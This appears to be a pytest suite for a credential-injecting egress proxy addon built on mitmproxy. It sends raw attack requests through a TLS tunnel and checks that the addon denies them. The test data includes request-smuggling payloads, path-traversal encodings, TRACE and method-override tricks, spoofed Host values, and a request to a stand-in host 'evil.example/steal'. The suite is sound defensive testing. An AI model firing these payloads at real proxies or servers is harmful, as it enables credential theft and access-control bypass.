"""Attacks on the addon's request checks, sent as an agent would (raw bytes inside a
CONNECT + TLS tunnel where curl cannot write them) through the real mitmdump + addon to the
echo upstream: each must be answered by uplink (JSON body, X-Uplink-Denied, audit line)
and reach the upstream never, or only as the rules allow (issue 13)."""

import json
import uuid

import pytest

from addon_support import (AWS_CREDS, AWS_DUMMY, _read_body, _read_head, load_filter,
                           send, tls_client, tunnel)

HOST = "api.example.com"
SECRET = "Bearer uplink-sentinel-attack"


def R(name, **kw):
    return {"name": name, "layer": "user", "hosts": ["api\\.example\\.com"], **kw}


INJECT = {"headers": {"Authorization": SECRET}}


class Raw:
    """One TLS connection through a tunnel to HOST; requests are written as raw bytes."""

    def __init__(self, proxy, host=HOST, port=443):
        status, _, _, sock = tunnel(proxy.port, host, port)
        assert status == 200
        self.sock = tls_client(proxy.pki.mitm_ca, sock, host)

    def send(self, data):
        self.sock.sendall(data)

    def response(self, method="GET"):
        status, headers, rest = _read_head(self.sock)
        return status, headers, _read_body(self.sock, headers, rest, method)

    def close(self):
        self.sock.close()


def head(lines, tid):
    """A request head: lines (str or bytes), the test id, Connection: close."""
    out = [x if isinstance(x, bytes) else x.encode("latin-1") for x in lines]
    out += [f"X-Test-Id: {tid}".encode(), b"Connection: close"]
    return b"\r\n".join(out) + b"\r\n\r\n"


def raw_exchange(proxy, rules, lines, body=b"", host=HOST):
    """Sends one raw request; returns (status, headers, parsed JSON or None, upstream
    records, new audit lines)."""
    tid = uuid.uuid4().hex
    with proxy.lock:
        proxy.set_rules(rules)
        before = len(proxy.mitm.audit())
        conn = Raw(proxy, host)
        try:
            conn.send(head(lines, tid) + body)
            status, headers, data = conn.response()
        finally:
            conn.close()
        audit = proxy.mitm.audit()[before:]
    try:
        doc = json.loads(data)
    except ValueError:
        doc = None
    return status, dict((n.lower(), v) for n, v in headers), doc, proxy.echo.find(tid), audit


def assert_denied(result, status=403):
    st, headers, doc, got, audit = result
    assert got == [], "the request reached the upstream"
    assert st == status, (st, doc)
    assert headers.get("x-uplink-denied") == "1"
    assert doc["error"] == "denied by uplink"
    assert [a["decision"] for a in audit] == ["deny"] and audit[0]["status"] == status
    return doc


# ------------------------------------------------------------------ 1: absolute form

def test_absolute_form_target_inside_tunnel_is_denied(proxy):
    rules = [R("api", inject=INJECT)]
    doc = assert_denied(raw_exchange(proxy, rules, [
        "GET https://evil.example/steal HTTP/1.1", f"Host: {HOST}"]))
    assert "evil.example" in doc["hint"]
    # the same with the allowed host's own port spelled differently
    assert_denied(raw_exchange(proxy, rules, [
        f"GET https://{HOST}:8443/x HTTP/1.1", f"Host: {HOST}"]))
    # control: an absolute-form target naming the tunnel's own host is fine
    st, _, _, got, _ = raw_exchange(proxy, rules, [f"GET https://{HOST}/x HTTP/1.1",
                                                   f"Host: {HOST}"])
    assert st == 200 and len(got) == 1


# ------------------------------------------------------------------ 2: TRACE

@pytest.mark.parametrize("lines", [
    ["TRACE / HTTP/1.1"],
    ["TRACK / HTTP/1.1"],
    ["trace / HTTP/1.1"],
    ["POST / HTTP/1.1", "X-HTTP-Method-Override: TRACE", "Content-Length: 0"],
], ids=["trace", "track", "lower", "override"])
def test_trace_never_gets_the_credential(proxy, lines):
    assert_denied(raw_exchange(proxy, [R("api", inject=INJECT)], lines + [f"Host: {HOST}"]))


# ------------------------------------------------------------------ 6: dot segments

@pytest.mark.parametrize("path", ["/ok/../secret", "/ok/%2e%2e/secret", "/ok/..%2fsecret",
                                  "/ok/%2E%2e%2Fsecret", "/ok/..;/secret", "/ok/..%5csecret",
                                  "/ok/..\\secret", "/ok/./../secret"])
def test_dot_segments_and_encoded_separators_are_denied(proxy, path):
    rules = [R("ok", paths=["/ok/.*"], inject=INJECT)]
    doc = assert_denied(raw_exchange(proxy, rules, [f"GET {path} HTTP/1.1", f"Host: {HOST}"]))
    assert "plain form" in doc["hint"]


def test_plain_path_under_the_prefix_is_allowed(proxy):
    rules = [R("ok", paths=["/ok/.*"], inject=INJECT)]
    st, _, _, got, _ = raw_exchange(proxy, rules, ["GET /ok/.well-known/x..y HTTP/1.1",
                                                   f"Host: {HOST}"])
    assert st == 200 and len(got) == 1
    assert [v for n, v in got[0]["headers"] if n.lower() == "authorization"] == [SECRET]


# ------------------------------------------------------------------ 7: framing

SMUGGLED = b"GET /admin HTTP/1.1\r\nHost: api.example.com\r\n\r\n"


@pytest.mark.parametrize("extra,body", [
    ([b"Content-Length: 0_64"], SMUGGLED.ljust(64, b"x")),
    ([b"Content-Length: +64"], SMUGGLED.ljust(64, b"x")),
    (["Content-Length: \uff16\uff14".encode()], SMUGGLED.ljust(64, b"x")),
    ([b"Content-Length: " + b"1" * 30], b""),
    ([b"X-A: a\x00b"], b""),
    ([b"X-A: a\rGET /admin HTTP/1.1"], b""),
    ([b"X-A: a", b" folded"], b""),
], ids=["underscore", "plus", "fullwidth", "huge", "nul", "cr", "obs-fold"])
def test_malformed_framing_is_denied(proxy, extra, body):
    rules = [R("api", methods=["POST"], inject=INJECT)]
    result = raw_exchange(proxy, rules, [b"POST /x HTTP/1.1", f"Host: {HOST}".encode(), *extra],
                          body)
    doc = assert_denied(result, 400)
    assert doc["method"] == "POST"


def test_conflicting_content_lengths_are_refused(proxy):
    # mitmproxy 8 refuses these itself (its own 400) once the addon has denied them
    st, _, _, got, _ = raw_exchange(proxy, [R("api", methods=["POST"], inject=INJECT)], [
        b"POST /x HTTP/1.1", f"Host: {HOST}".encode(), b"Content-Length: 64",
        b"Content-Length: 0"], SMUGGLED.ljust(64, b"x"))
    assert st == 400 and got == []


# ------------------------------------------------------------------ 8: method override

@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method",
                                  "X-Method-Override"])
def test_method_override_is_denied_under_a_method_rule(proxy, name):
    rules = [R("post", methods=["POST"], inject=INJECT)]
    assert_denied(raw_exchange(proxy, rules, ["POST /x HTTP/1.1", f"Host: {HOST}",
                                              f"{name}: DELETE", "Content-Length: 0"]))


# ------------------------------------------------------------------ 9: fail closed

def test_rules_nested_too_deep_keep_the_last_good_ones(proxy):
    rules = [R("get", methods=["GET"], inject=INJECT)]
    deep = '{"version": 1, "rules": [' + "[" * 50000 + "]" * 50000 + "]}"
    with proxy.lock:
        proxy.set_rules(rules)
        assert send(proxy.port, "https", HOST, 443, "GET", "/", trust=proxy.pki.mitm_ca).status \
            == 200
        proxy.rules_path.write_text(deep)  # the next request polls it
        tid = uuid.uuid4().hex
        res = send(proxy.port, "https", HOST, 443, "POST", "/", body=b"x",
                   headers=[("X-Test-Id", tid)], trust=proxy.pki.mitm_ca)
        ok = send(proxy.port, "https", HOST, 443, "GET", "/", trust=proxy.pki.mitm_ca)
        proxy.set_rules([])
    assert res.status == 403 and res.header("X-Uplink-Denied") == "1", res
    assert proxy.echo.find(tid) == []
    assert ok.status == 200, "the last good rules were dropped"
    out = proxy.mitm.output()
    assert "cannot parse: RecursionError (keeping the previous version)" in out
    assert "Addon error" not in out and "Traceback" not in out


def test_sigv4_path_with_invalid_utf8_is_signed(proxy):
    host = "sqs.us-east-1.amazonaws.com"
    rules = [{"name": "sqs", "layer": "user", "hosts": ["sqs\\.us-east-1\\.amazonaws\\.com"],
              "aws_sign": True}]
    auth = (f"Authorization: AWS4-HMAC-SHA256 Credential={AWS_DUMMY}/20200101/us-east-1/sqs/"
            "aws4_request, SignedHeaders=host;x-amz-date, Signature=" + "0" * 64)
    st, _, doc, got, _ = raw_exchange(proxy, rules, [
        b"GET /q\xff\xfe/x?a=%ff HTTP/1.1", f"Host: {host}".encode(), auth.encode(),
        b"X-Amz-Date: 20200101T000000Z"], host=host)
    assert st == 200, doc
    [rec] = got
    assert rec["path"].encode("latin-1") == b"/q\xff\xfe/x?a=%ff"
    [authz] = [v for n, v in rec["headers"] if n.lower() == "authorization"]
    assert authz.startswith(
        f"AWS4-HMAC-SHA256 Credential={AWS_CREDS[AWS_DUMMY]['access_key_id']}/")
    assert "hook failed" not in proxy.mitm.output()


# ------------------------------------------------------------------ 10: Host values

@pytest.mark.parametrize("hosts", [
    [f"[{HOST}]evil.example"], [""], ["api\u3002example\u3002com"], ["api\uff0eexample.com"],
    [HOST, "evil.example"], [], [f"{HOST}:8443"], [f"{HOST}%00"],
], ids=["bracket", "empty", "ideographic-stop", "fullwidth-stop", "two", "none", "port",
        "junk"])
def test_odd_host_values_are_refused(proxy, hosts):
    lines = [b"GET / HTTP/1.1"] + [b"Host: " + h.encode() for h in hosts]
    assert_denied(raw_exchange(proxy, [R("api", inject=INJECT)], lines))


def test_denied_expect_continue_gets_403_first(proxy):
    tid = uuid.uuid4().hex
    with proxy.lock:
        proxy.set_rules([R("get", methods=["GET"], inject=INJECT)])
        conn = Raw(proxy)
        try:
            conn.send(head(["POST /x HTTP/1.1", f"Host: {HOST}", "Expect: 100-continue",
                            "Content-Length: 10"], tid))
            status, headers, body = conn.response()  # the body is never sent
        finally:
            conn.close()
    assert status == 403, (status, body)
    assert json.loads(body)["error"] == "denied by uplink"
    assert proxy.echo.find(tid) == []


def test_l4_relay_is_closed_when_a_reload_removes_its_rule(proxy):
    l4 = {"name": "tcp", "layer": "user", "l4_forward": True, "hosts": ["tcp\\.uplink\\.test"]}
    with proxy.lock:
        proxy.set_rules([l4])
        status, _, _, sock = tunnel(proxy.port, "tcp.uplink.test", 7000)
        assert status == 200
        sock.sendall(b"\x00RAW ping")
        got = b""
        while len(got) < 9:
            got += sock.recv(64)
        assert got == b"\x00RAW ping"
        proxy.set_rules([R("api")])  # no other traffic: the proxy's timer notices it
        sock.settimeout(10)
        try:
            rest = sock.recv(64)  # the proxy closes the relay: end of stream
        except ConnectionResetError:
            rest = b""
        sock.close()
    assert rest == b""
    assert "l4 relay to tcp.uplink.test:7000: its rule is gone, relay closed" in \
        proxy.mitm.output()


# ------------------------------------------------------------------ 13: big requests

def test_big_denied_body_is_answered_before_it_is_sent(proxy):
    size, block = 64 << 20, b"x" * (1 << 20)
    tid = uuid.uuid4().hex
    with proxy.lock:
        proxy.set_rules([R("get", methods=["GET"], inject=INJECT)])
        before = len(proxy.mitm.audit())
        rss0 = proxy.mitm.rss_kib()
        conn = Raw(proxy)
        try:
            conn.send(head(["POST /upload HTTP/1.1", f"Host: {HOST}",
                            f"Content-Length: {size}"], tid))
            conn.send(block)  # the first MiB of 64: the answer comes before the rest
            status, headers, body = conn.response()
            for _ in range(size // len(block) - 1):  # the client goes on sending
                conn.send(block)
            rss1 = proxy.mitm.rss_kib()
            eof = conn.sock.recv(1) == b""  # closed once the body ended
        finally:
            conn.close()
        audit = proxy.mitm.audit()[before:]
    assert status == 403 and json.loads(body)["error"] == "denied by uplink"
    assert dict((n.lower(), v) for n, v in headers).get("connection") == "close"
    assert eof
    assert rss1 - rss0 < 16 * 1024, f"mitmdump grew by {rss1 - rss0} KiB: the body was kept"
    assert [a["decision"] for a in audit] == ["deny"]
    assert proxy.echo.find(tid) == []


@pytest.mark.parametrize("extra", [
    [f"X-Many-{i}: v" for i in range(300)],
    ["X-Big: " + "b" * (70 * 1024)],
], ids=["count", "bytes"])
def test_header_block_over_the_caps_gets_431(proxy, extra):
    f = load_filter()
    assert (f.MAX_HEADERS, f.MAX_HEADER_BYTES) == (256, 64 * 1024)
    assert_denied(raw_exchange(proxy, [R("api", inject=INJECT)],
                               ["GET / HTTP/1.1", f"Host: {HOST}", *extra]), 431)


def test_every_hook_fails_closed(capsys):
    """In process, with mitmproxy's test flows: whatever a hook raises, the flow it was
    deciding is denied or killed, and the log names the failure but never its message."""
    import io

    from mitmproxy.test import tflow

    f = load_filter()
    addon = f.UplinkFilter(audit=f.AuditLog(io.StringIO()))

    def boom(*_args, **_kw):
        raise RuntimeError("uplink-sentinel quoted in a message")

    addon._poll = boom  # every deciding hook polls first
    for hook in ("http_connect", "requestheaders"):
        flow = tflow.tflow()
        assert getattr(addon, hook)(flow) is None
        assert flow.response.status_code == 500, hook
        assert flow.response.headers["X-Uplink-Denied"] == "1"
        assert json.loads(flow.response.content)["error"] == "denied by uplink"
    flow = tflow.tflow()
    flow.metadata[f.META] = {"sign": {"s3": False, "akid": "X"}}
    addon._sign = boom
    addon.request(flow)
    assert flow.response.status_code == 500
    addon._finish = boom
    flow = tflow.tflow(resp=True)
    flow.live = True
    addon.response(flow)
    assert flow.error and flow.error.msg == flow.error.KILLED_MESSAGE
    addon._emit = boom
    tcp = tflow.ttcpflow()
    tcp.live = True
    addon.tcp_start(tcp)
    assert tcp.error and tcp.error.msg == tcp.error.KILLED_MESSAGE
    err = capsys.readouterr().err
    assert "requestheaders hook failed (RuntimeError in boom" in err
    assert "uplink-sentinel" not in err
